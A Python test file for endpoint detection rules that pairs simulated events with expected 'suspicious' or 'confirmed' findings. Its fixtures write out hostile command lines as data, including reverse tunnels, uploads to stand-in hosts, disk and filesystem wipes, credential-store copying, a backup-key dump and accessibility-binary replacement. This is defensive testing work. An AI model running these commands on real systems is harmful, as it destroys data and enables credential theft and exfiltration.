"""Rules on tools that people bring along and on what is done past the usual sight: found, not found, and how strong."""

from incidents import (
    EVIL,
    INSTALLED,
    POWERSHELL,
    SYSTEM32,
    TEMP,
    access,
    event,
    examples,
    launch,
    service,
    setting,
    strengths,
    write,
)
from verifier.rules import stealth, tools

CMD = SYSTEM32 + "cmd.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
SVCHOST = SYSTEM32 + "svchost.exe"
LOGIN_DATA = "C:\\Users\\ana\\AppData\\Local\\Browser\\User Data\\Default\\Login Data"
POLICY = "corp.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\"
STATION = "C:\\Users\\ana\\AppData\\Local\\Station\\"


def run(command, at=0, **more):
    """A command line, run by the program that it names."""
    return launch(at, SYSTEM32 + command.split()[0], command, **more)


def shell(command):
    return run(f"powershell.exe {command}")


def script(text):
    return event(0, "script", "block", script_text=text)


def opened(name, program, **more):
    return event(0, "object_access", "open", object_name=name, process_path=program, **more)


def driver(path, state="signed"):
    return event(0, "module_load", "driver", file_path=path, signature_state=state, user=None)


def share(path, mask="0x2", **more):
    return event(
        0, "share", "access", share_name="\\\\*\\SYSVOL", file_path=path, access_mask=mask, src_ip="10.20.1.12", **more
    )


def notes(*folders, name="read me.txt", gap=1):
    return [write(gap * n, f"C:\\Users\\ana\\{folder}\\{name}", EVIL) for n, folder in enumerate(folders)]


def trust(**more):
    return event(0, "control_change", "trust", **{"control_name": "trust other.example", **more})


def firewall(name, value):
    return event(0, "control_change", "firewall", control_name=f"firewall setting {name}", new_value=value)


CASES = {
    # ------------------------------------------------------------ tools
    "tunnel-started": [
        ("suspicious", [run("ngrok.exe tcp 3389")]),
        ("suspicious", [run("cloudflared.exe tunnel run --token abc")]),
        ("suspicious", [run("a.exe client 203.0.113.7:80 R:socks")]),
        ("suspicious", [run("cmd.exe /c c:\\x\\chisel.exe server -p 80 --reverse")]),
        ("suspicious", [run("frpc.exe -c frpc.ini")]),
        ("suspicious", [run("a.exe -connect 203.0.113.7:11601 -v -ignore-cert")]),
        ("suspicious", [run("code.exe tunnel")]),
        ("", [run("ngrok.exe version"), run("code.exe --new-window")]),
    ],
    "remote-tool-installed": [
        ("suspicious", [run("AnyDesk.exe --install C:\\x --silent".replace("AnyDesk.exe", "anydesk.exe"))]),
        ("suspicious", [run("cmd.exe /c echo secret | anydesk.exe --set-password")]),
        ("suspicious", [run("msiexec.exe /i ScreenConnect.ClientSetup.msi /qn")]),
        ("suspicious", [run("msiexec.exe /qn /i agent.msi IntegratorLogin=a@b.example")]),
        ("suspicious", [run("cmd.exe /c TeamViewer_Setup.exe /S")]),
        ("", [run("msiexec.exe /i ScreenConnect.ClientSetup.msi"), run("msiexec.exe /i acme.msi /qn"), run("anydesk.exe")]),
    ],
    "copied-to-storage": [
        ("suspicious", [run("rclone.exe copy C:\\data far:box")]),
        ("suspicious", [run("svc.exe copy C:\\data far:box -q --ignore-existing")]),
        ("suspicious", [run("curl.exe -T data.zip https://files.example/x")]),
        ("suspicious", [run("curl.exe https://files.example/x -F f=@data.zip")]),
        ("suspicious", [shell("Invoke-RestMethod -Uri https://x.example -Method Put -InFile a.zip")]),
        ("suspicious", [run("azcopy.exe copy C:\\data https://x.example/c?sig=1")]),
        ("", [run("curl.exe -o a.zip https://files.example/a.zip"), run("azcopy.exe copy https://x.example/c C:\\data")]),
    ],
    "coin-miner": [
        ("confirmed", [run("a.exe -o stratum+tcp://pool.example:3333 -u x")]),
        ("confirmed", [run("a.exe --donate-level 1 -u x")]),
        ("", [run("a.exe -o tcp://pool.example:3333 -u x")]),
    ],
    "data-wiped": [
        ("suspicious", [run("sdelete.exe -p 3 C:\\data")]),
        ("suspicious", [run("cmd.exe /c rd /s /q C:\\Users")]),
        ("suspicious", [run("cmd.exe /c del /f /s /q D:\\*.*")]),
        ("suspicious", [run("cmd.exe /c format E: /y /q")]),
        ("suspicious", [shell("Remove-Item -Recurse -Force C:\\Users\\")]),
        ("suspicious", [launch(0, "/usr/bin/dd", "dd if=/dev/zero of=/dev/sda bs=1M")]),
        ("suspicious", [launch(0, "/usr/bin/rm", "rm -rf --no-preserve-root /")]),
        ("", [run("cmd.exe /c rd /s /q C:\\Users\\ana\\x"), shell("Remove-Item -Recurse C:\\build\\out")]),
        ("", [launch(0, "/usr/bin/dd", "dd if=/dev/zero of=swap bs=1M"), launch(0, "/usr/bin/rm", "rm -rf /tmp/x/ /var/x")]),
    ],
    "mail-collected": [
        ("suspicious", [shell("New-MailboxExportRequest -Mailbox ben -FilePath \\\\FIL-01\\x\\b.pst")]),
        ("suspicious", [run("cmd.exe /c copy C:\\Users\\ben\\Outlook\\ben.ost D:\\x")]),
        ("suspicious", [script("$o = New-Object -ComObject Outlook.Application; $n = $o.GetNamespace('MAPI')")]),
        ("", [shell("Get-MailboxExportRequest"), run("cmd.exe /c dir *.pst")]),
    ],
    "subscription-command": [
        ("suspicious", [script("Set-WmiInstance -Namespace root/subscription -Class __EventFilter -Arguments @{}")]),
        ("suspicious", [run("wmic.exe /namespace:\\\\root\\subscription path CommandLineEventConsumer create name=x")]),
        ("", [script("Get-WmiObject -Namespace root/subscription -Class __EventFilter")]),
    ],
    "transfer-runs-command": [
        ("confirmed", [run("bitsadmin.exe /SetNotifyCmdLine job c:\\x.exe NULL")]),
        ("", [run("bitsadmin.exe /list")]),
    ],
    "component-installed": [
        ("suspicious", [run("netsh.exe add helper c:\\x.dll")]),
        ("suspicious", [run("sdbinst.exe -q c:\\x.sdb")]),
        ("suspicious", [run("appcmd.exe install module /name:x /image:c:\\x.dll")]),
        ("", [run("netsh.exe show helper"), run("appcmd.exe list modules")]),
    ],
    "certificate-for-another": [
        ("suspicious", [run('certreq.exe -submit -attrib "SAN:upn=ben@corp.example" r.req')]),
        ("suspicious", [run("a.exe request /ca:ca01 /template:User /altname:ben")]),
        ("suspicious", [run("certutil.exe -setreg policy\\EditFlags +EDITF_ATTRIBUTESUBJECTALTNAME2")]),
        ("", [run("certreq.exe -submit r.req"), run("certutil.exe -setreg chain\\x 1")]),
    ],
    "share-opened": [
        ("suspicious", [run("net.exe share x=C:\\data /grant:everyone,full")]),
        ("suspicious", [run("net.exe share x=C:\\")]),
        ("suspicious", [shell("New-SmbShare -Name x -Path C:\\data -FullAccess Everyone")]),
        ("", [run("net.exe share"), run("net.exe share x=C:\\data /grant:sales,read")]),
    ],
    "saved-credentials-used": [
        ("suspicious", [run("runas.exe /savecred /user:ben cmd")]),
        ("suspicious", [run("runas.exe /netonly /user:corp\\ben cmd")]),
        ("", [run("runas.exe /user:ben cmd")]),
    ],
    "credential-store-copied": [
        ("suspicious", [run(f'cmd.exe /c copy "{LOGIN_DATA}" C:\\x')]),
        ("suspicious", [run("cmd.exe /c xcopy D:\\safe\\mine.kdbx \\\\10.0.0.9\\x")]),
        ("confirmed", [opened(LOGIN_DATA, EVIL)]),
        ("confirmed", [opened(LOGIN_DATA, POWERSHELL)]),
        ("", [opened(LOGIN_DATA, INSTALLED), run("browser.exe --user-data-dir=C:\\x\\User Data")]),
    ],
    "domain-secret-read": [
        ("confirmed", [event(0, "directory", "access", object_dn="CN=BCKUPKEY_P Secret,CN=System,DC=corp")]),
        ("confirmed", [opened("BCKUPKEY_PREFERRED", SYSTEM32 + "lsass.exe")]),
        ("confirmed", [run("a.exe lsadump::backupkeys /system:DIR-01")]),
        ("", [event(0, "directory", "access", object_dn="CN=BCKUPKEY_P Secret,CN=System,DC=corp", user="DIR-01$")]),
    ],
    "lsass-cloned": [
        ("confirmed", [access(0, EVIL, "0x80")]),
        ("confirmed", [access(0, POWERSHELL, "0x1080")]),
        ("", [access(0, INSTALLED, "0x80"), access(0, EVIL, "0x90"), access(0, EVIL, "0x80", SVCHOST)]),
    ],
    "ransom-note": [
        ("confirmed", notes("Desktop", "Documents", "Pictures")),
        ("confirmed", notes("Desktop", "Documents", "Cloud\\Documents", gap=300)),
        ("", notes("Desktop", "Documents")),
        ("", notes("Desktop", "Documents", "Pictures", gap=301)),
        ("", notes("Desktop", "Documents", "Pictures", name="read me.pdf")),
        ("", notes("Documents\\a", "Documents\\b", "Documents\\c")),
    ],
    "attachment-opened": [
        ("suspicious", [launch(0, TEMP + "Temp1_bill.zip\\bill.exe")]),
        ("suspicious", [launch(0, SYSTEM32 + "wscript.exe", f'wscript.exe "{TEMP}7zO4A1\\bill.js"')]),
        ("suspicious", [launch(0, CMD, f'cmd /c "{TEMP}Rar$DIa1\\bill.bat"')]),
        ("", [launch(0, TEMP + "bill.exe"), launch(0, INSTALLED, f"acme.exe {TEMP}7zO4A1\\bill.pdf")]),
    ],
    "package-starts-shell": [
        ("suspicious", [launch(0, CMD, parent="C:\\Windows\\Installer\\MSI4A1.tmp")]),
        ("", [launch(0, CMD, parent=SYSTEM32 + "msiexec.exe"), launch(1, INSTALLED, parent="C:\\Windows\\Installer\\MSI4A1.tmp")]),
    ],
    # ------------------------------------------------------------ past the usual sight
    "file-time-changed": [
        ("suspicious", [write(0, "C:\\Windows\\x.dll", POWERSHELL, "time_change")]),
        ("suspicious", [write(0, TEMP + "x.exe", EVIL, "time_change")]),
        ("suspicious", [script("(Get-Item x.exe).LastWriteTime = '01/01/2019'")]),
        ("suspicious", [launch(0, "/usr/bin/touch", "touch -r /bin/ls /usr/bin/x")]),
        ("", [write(0, TEMP + "x.exe", TEMP + "setup.exe", "time_change"), write(1, TEMP + "x.txt", EVIL, "time_change")]),
        ("", [write(0, STATION + "x.exe", STATION + "Station.exe", "time_change")]),
        ("", [write(0, TEMP + "x.exe", INSTALLED, "time_change"), launch(1, "/usr/bin/touch", "touch x")]),
    ],
    "program-in-stream": [
        ("suspicious", [write(0, "C:\\data\\a.txt:x.exe", CMD, "stream")]),
        ("suspicious", [run("cmd.exe /c type c:\\x.exe > c:\\data\\a.txt:x.exe")]),
        ("confirmed", [launch(0, "C:\\data\\a.txt:x.exe")]),
        ("", [write(0, "C:\\data\\a.exe:Zone.Identifier", EXPLORER, "stream"), run("cmd.exe /c type c:\\x.exe > c:\\y.exe")]),
    ],
    "safe-mode-entry": [
        ("suspicious", [setting(0, "Service", "HKLM\\System\\CurrentControlSet\\Control\\SafeBoot\\Minimal\\x\\(Default)")]),
        ("", [setting(0, "Service", "HKLM\\System\\CurrentControlSet\\Control\\SafeBoot\\Minimal\\x", SVCHOST)]),
    ],
    "account-hidden": [
        ("suspicious", [setting(0, "DWORD (0x00000000)", "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\x")]),
        ("", [setting(0, "DWORD (0x00000001)", "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\x")]),
    ],
    "raw-disk-read": [
        ("confirmed", [write(0, "\\Device\\HarddiskVolume2", POWERSHELL, "raw_read")]),
        ("suspicious", [write(0, "\\Device\\HarddiskVolume2", EVIL, "raw_read")]),
        ("", [write(0, "\\Device\\HarddiskVolume2", SVCHOST, "raw_read")]),
    ],
    "odd-driver": [
        ("confirmed", [driver(TEMP + "x.sys", "unsigned")]),
        ("suspicious", [driver(TEMP + "x.sys")]),
        ("suspicious", [driver("D:\\x.sys", "invalid")]),
        ("", [driver(SYSTEM32 + "drivers\\x.sys"), driver("D:\\x.sys"), driver(SYSTEM32 + "spool\\drivers\\x.dll", "unsigned")]),
    ],
    "accessibility-replaced": [
        ("confirmed", [write(0, SYSTEM32 + "sethc.exe", CMD)]),
        ("confirmed", [run("cmd.exe /c copy /y cmd.exe C:\\Windows\\System32\\utilman.exe")]),
        ("", [write(0, SYSTEM32 + "sethc.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe"), run("sethc.exe 211")]),
    ],
    "session-taken": [
        ("confirmed", [service(0, "cmd.exe /k tscon 2 /dest rdp-tcp#14")]),
        ("confirmed", [run("tscon.exe 2 /dest:console", user="SYSTEM")]),
        ("suspicious", [run("tscon.exe 2 /dest:console")]),
        ("suspicious", [run("mstsc.exe /v:WKS-02 /shadow:1 /noConsentPrompt")]),
        ("", [run("tscon.exe 2"), run("mstsc.exe /v:WKS-02 /shadow:1")]),
    ],
    "policy-file-written": [
        ("suspicious", [share(POLICY + "Preferences\\ScheduledTasks\\ScheduledTasks.xml")]),
        ("suspicious", [share(POLICY + "Scripts\\Startup\\x.bat")]),
        ("suspicious", [write(0, "C:\\Windows\\SYSVOL\\domain\\" + POLICY.partition("\\")[2] + "Microsoft\\Windows NT\\SecEdit\\GptTmpl.inf")]),
        ("", [share(POLICY + "Scripts\\Startup\\x.bat", "0x1"), share(POLICY + "Scripts\\Startup\\x.bat", user="WKS-01$")]),
        ("", [share(POLICY + "Registry.pol")]),
    ],
    "trust-made": [
        ("suspicious", [trust()]),
        ("", [trust(user="DIR-01$"), trust(control_name="domain policy")]),
    ],
    "firewall-switched-off": [
        ("suspicious", [firewall("Enable Windows Firewall", "No")]),
        ("suspicious", [firewall("1 of profile 2", "No")]),
        ("", [firewall("Enable Windows Firewall", "Yes")]),
        ("", [firewall("3 of profile 2", "No")]),
    ],
}  # fmt: skip


@examples(CASES)
def test_what_is_found_and_how_strong(rule_id, strength, rows):
    assert strengths(rule_id, *rows) == ({strength} if strength else set())


def test_every_rule_is_found_in_some_example_and_not_in_another():
    assert {rule.rule_id for module in (stealth, tools) for rule in module.RULES} == set(CASES)
    for rule_id, cases in CASES.items():
        strengths = {strength for strength, _ in cases}
        assert "" in strengths, rule_id
        assert strengths - {""}, rule_id
